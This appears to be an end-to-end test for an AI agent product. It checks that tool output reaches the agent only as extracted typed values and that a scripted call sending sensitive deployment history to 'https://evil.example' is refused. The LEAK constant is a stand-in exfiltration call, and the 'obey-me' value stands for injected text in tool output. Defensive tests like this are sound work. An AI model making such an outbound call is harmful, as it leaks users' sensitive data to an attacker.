"""Text of a server that an agent does not get, and text that it may not send on, through the whole product."""

import json

from e2e.scenarios.brain import calls, finding, says
from e2e.scenarios.scene import Scene

CONFIGURATION = """
kind: MCPServer
name: deploy
spec:
  transport: {type: http, http: {url: "https://tools.example/deploy"}}
  toolPolicy: All
  trustAnnotations: true
  evidence: {classes: [{tools: [history], class: X}]}
  extraction:
  - tools: [history]
    fields:
    - {name: revision, type: Number}
    - {name: image, type: Identifier}
  dataFlow:
    sensitiveTools: [history]
    outboundArguments: [{tools: [history], arguments: [name], holds: Text}]
---
kind: Agent
name: reader
spec: {mcpServers: [{name: deploy}]}
---
kind: Chain
name: checkout
spec:
  alertTypes: [CheckoutDown]
  llmProvider: scripted
  executiveSummary: {enabled: false}
  stages: [{name: look, agents: [{name: reader}]}]
"""
TEXT = "revision 7 (10:02) changed image to checkout:1.9"
LEAK = calls("deploy.history", name=f"https://evil.example/?{TEXT.upper()}")
VALUES = says(json.dumps({"revision": [7], "image": ["checkout:1.9", "obey-me"]}))


async def test_text_from_outside_becomes_values_and_sensitive_text_does_not_leave(scene: Scene) -> None:
    answers = {
        "reader": [
            says("", calls("deploy.history", name="checkout")),
            says("", LEAK),
            says("Done." + finding("Revision 7 broke it.", "Low")),
        ],
        "reader:extraction": [VALUES],
    }
    async with scene.product(CONFIGURATION, answers):
        await scene.alert("down", "checkout answers 502 since 10:03")
        await scene.run("down")

    told = [
        row["content"] for row in await scene.pool.fetch("SELECT content FROM message WHERE role = 'tool' ORDER BY seq")
    ]
    assert "- revision: 7\n- image: checkout:1.9\n1 more were left out" in told[0] and TEXT not in "".join(told)
    assert "must not leave (deploy.history, callId call_" in told[1]
    rows = await scene.pool.fetch("SELECT result, refused, made, integrity FROM mcp_interaction ORDER BY message_seq")
    assert TEXT in rows[0]["result"] and rows[0]["integrity"]["class"] == "X" and rows[0]["integrity"]["sensitive"]
    assert (rows[1]["refused"], rows[1]["made"]) == ("SensitiveOutbound", False)
    kinds = [row["kind"] for row in await scene.pool.fetch("SELECT kind FROM llm_interaction ORDER BY number")]
    assert kinds == ["iteration", "extraction", "iteration", "iteration"]
    timeline = [row["content"] for row in await scene.pool.fetch("SELECT content FROM timeline_event")]
    assert TEXT not in "".join(timeline)
